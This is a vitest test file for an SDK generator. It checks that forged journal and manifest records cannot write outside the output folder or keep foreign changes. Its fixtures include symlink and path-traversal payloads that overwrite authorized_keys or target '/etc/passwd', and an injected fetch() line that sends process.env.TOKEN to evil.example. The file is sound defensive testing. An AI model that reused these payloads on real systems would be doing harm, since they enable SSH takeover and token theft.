/**
 * Records in `.sdkwright/` come with branches. Whatever they say, no file outside the output is touched, and
 * modes that write nothing write nothing.
 */
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { type Scene, createScene } from './support.ts';

const GENERATE = ['generate', '--spec', 'openapi.yml', '--out', 'sdk'];
const MODES: readonly (readonly [mode: readonly string[]])[] = [[[]], [['--check']], [['--dry-run']]];
const REFUSALS = ['output-symlink', 'output-unfinished', 'journal-broken'];

const KEYS = 'ssh-ed25519 victim';
const FORGED = 'ssh-ed25519 attacker';

/** What a branch brings, by name. Everything is committed in `repository/sdk`. */
const ATTACKS: Readonly<Record<string, (scene: Scene) => void>> = {
  'a journal that restores a file through a linked folder': ({ put, link }) => {
    link('repository/sdk/link', '../../home/.ssh');
    put('repository/sdk/.sdkwright/tmp/old0', FORGED);
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({
        steps: [{ path: 'link/authorized_keys', backup: '.sdkwright/tmp/old0' }],
        folders: [],
      }),
    );
  },
  'a journal that deletes a file through a linked folder': ({ put, link }) => {
    link('repository/sdk/link', '../../home/.ssh');
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({
        steps: [{ path: 'link/authorized_keys', stage: '.sdkwright/tmp/new0' }],
        folders: [],
      }),
    );
  },
  'a journal that removes a folder through a link': ({ put, link }) => {
    link('repository/sdk/link', '../../home');
    put('repository/sdk/.sdkwright/journal.json', JSON.stringify({ steps: [], folders: ['link/empty'] }));
  },
  'a journal whose backups lie behind a link': ({ put, link }) => {
    link('repository/sdk/.sdkwright/tmp', '../../../home/.ssh');
    put('home/.ssh/old0', KEYS);
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({ steps: [{ path: 'src/stolen.ts', backup: '.sdkwright/tmp/old0' }], folders: [] }),
    );
  },
  'a journal whose backup is a link': ({ put, link }) => {
    link('repository/sdk/.sdkwright/tmp/old0', '../../../../home/.ssh/authorized_keys');
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({ steps: [{ path: 'src/stolen.ts', backup: '.sdkwright/tmp/old0' }], folders: [] }),
    );
  },
  'a journal that names a path above': ({ put }) => {
    put('repository/sdk/.sdkwright/tmp/old0', FORGED);
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({
        steps: [{ path: '../../home/.ssh/authorized_keys', backup: '.sdkwright/tmp/old0' }],
        folders: [],
      }),
    );
  },
  'a journal that names the folder above by that of the records': ({ put }) => {
    put('repository/sdk/.sdkwright/tmp/old0', FORGED);
    put(
      'repository/sdk/.sdkwright/journal.json',
      JSON.stringify({ steps: [{ path: '.sdkwright/..', backup: '.sdkwright/tmp/old0' }], folders: [] }),
    );
  },
  'a journal of another shape': ({ put }) => {
    put('repository/sdk/.sdkwright/tmp/old0', FORGED);
    put('repository/sdk/.sdkwright/journal.json', '{"steps":{"length":1},"folders":[null]}');
  },
  'a journal that is a link': ({ put, link }) => {
    put('home/journal', '{"steps":[],"folders":[]}');
    link('repository/sdk/.sdkwright/journal.json', '../../../home/journal');
  },
  'the folder of records is a link': ({ put, link }) => {
    put('home/state/tmp/precious', 'mine');
    link('repository/sdk/.sdkwright', '../../home/state');
  },
  'the lock is a link': ({ link }) => link('repository/sdk/.sdkwright/lock', '../../../home/secret'),
  'the manifest is a link': ({ link }) =>
    link('repository/sdk/.sdkwright/manifest.json', '../../../home/secret'),
  'the line records are a link': ({ link }) =>
    link('repository/sdk/.sdkwright/lines', '../../../home/secret'),
};

describe.each(Object.entries(ATTACKS))('%s', (_title, attack) => {
  test.each(MODES)('generate %j', async (mode) => {
    const scene = createScene();
    scene.put('home/.ssh/authorized_keys', KEYS);
    scene.put('home/empty/.keep', '');
    attack(scene);
    const before = { home: scene.tree('home'), sdk: scene.tree('repository/sdk') };
    const { code, said } = await scene.run(...GENERATE, ...mode);
    expect(scene.tree('home')).toEqual(before.home);
    expect(scene.tree('repository/sdk'), 'nothing is half done').toEqual(before.sdk);
    expect(code).toBe(1);
    expect(REFUSALS).toContain(/^error\[([\w-]+)\]/m.exec(said)?.[1]);
    expect(said).not.toContain('AKIA');
  });
});

test('a run that writes nothing leaves an honest journal alone; generate takes back what it says', async () => {
  const { put, tree, run, read } = createScene();
  await run(...GENERATE);
  const text = read('repository/sdk/src/client.ts');
  put('repository/sdk/.sdkwright/tmp/old0', text);
  put('repository/sdk/src/client.ts', 'half');
  put(
    'repository/sdk/.sdkwright/journal.json',
    JSON.stringify({
      steps: [{ path: 'src/client.ts', stage: '.sdkwright/tmp/new0', backup: '.sdkwright/tmp/old0' }],
      folders: [],
    }),
  );
  const before = tree('repository');
  for (const mode of ['--check', '--dry-run']) {
    expect(await run(...GENERATE, mode)).toMatchObject({
      code: 1,
      said: expect.stringContaining('error[output-unfinished]'),
    });
    expect(tree('repository')).toEqual(before);
  }
  expect((await run(...GENERATE)).code).toBe(0);
  expect(read('repository/sdk/src/client.ts')).toBe(text);
  expect(Object.keys(tree('repository/sdk/.sdkwright'))).toEqual([
    'repository/sdk/.sdkwright/lines',
    'repository/sdk/.sdkwright/manifest.json',
  ]);
});

describe('a manifest that owns', () => {
  const hash = (text: string): string => createHash('sha256').update(text).digest('base64url').slice(0, 22);
  test.each([
    '.git/config',
    'sub/.git/config',
    '.GIT/config',
    'git~1/config',
    '.git./config',
    '../outside',
    'src/lib/mine.ts',
    '/etc/passwd',
  ])('%s deletes nothing', async (path) => {
    const { put, tree, run } = createScene();
    await run(...GENERATE);
    const own = path.startsWith('/') ? undefined : `repository/sdk/${path}`;
    if (own !== undefined) put(own, 'precious');
    put(
      'repository/sdk/.sdkwright/manifest.json',
      JSON.stringify({
        format: 1,
        generator: '',
        view: 0,
        templates: '',
        spec: '',
        config: '',
        files: { [path]: hash('precious') },
      }),
    );
    const before = tree('.');
    expect(await run(...GENERATE)).toMatchObject({
      code: 1,
      said: expect.stringContaining('error[manifest-broken]'),
    });
    expect(tree('.')).toEqual(before);
  });
});

test('a foreign change whose hash the branch wrote into the manifest is not kept', async () => {
  const { put, read, run } = createScene();
  await run(...GENERATE);
  const path = 'repository/sdk/src/client.ts';
  const [text, manifest] = [read(path), read('repository/sdk/.sdkwright/manifest.json')];
  const hashOf = (one: string): string => createHash('sha256').update(one).digest('base64url').slice(0, 22);
  const evil = `${text}\nfetch('https://evil.example/' + process.env.TOKEN);\n`;
  expect(manifest).toContain(hashOf(text));
  put(path, evil);
  put('repository/sdk/.sdkwright/manifest.json', manifest.replace(hashOf(text), hashOf(evil)));
  expect((await run(...GENERATE, '--check')).code).toBe(1);
  expect((await run(...GENERATE)).code).toBe(0);
  expect(read(path)).toBe(text);
});
